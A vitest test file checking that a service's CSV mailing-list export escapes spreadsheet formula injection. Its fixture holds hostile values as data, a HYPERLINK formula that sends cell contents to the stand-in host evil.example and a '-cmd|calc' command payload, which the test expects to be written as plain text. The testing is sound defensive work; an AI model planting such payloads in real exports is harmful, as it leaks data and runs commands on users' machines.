/**
 * CSV files the service writes (mailing list, reconcile report) are opened in spreadsheets: text
 * from other systems that starts like a formula must not run as one.
 */
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/app/csv';
import { mailingListCsv } from '../../src/app/invoicing/mailing-list';

describe('CSV output and spreadsheet formulas', () => {
  it('a customer named like a formula is written as text', () => {
    const csv = mailingListCsv([
      {
        externalId: 'X-1',
        name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        email: '@SUM(1+1)',
        addressLines: ['+1 Main St', '-cmd|calc'],
        postalCode: '111 57',
        city: '\tStockholm',
        countryCode: 'SE',
      },
    ]);
    const row = csv.split('\r\n')[1]!;
    expect(row).toBe(
      `X-1,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",'@SUM(1+1),"'+1 Main St\n-cmd|calc",111 57,'\tStockholm,SE`,
    );
  });

  it('numbers and plain decimal text stay as they are', () => {
    expect(csvLine([-5, '-12.50', '+46812345678', '0', 'plain', ''])).toBe(
      '-5,-12.50,+46812345678,0,plain,\r\n',
    );
  });
});
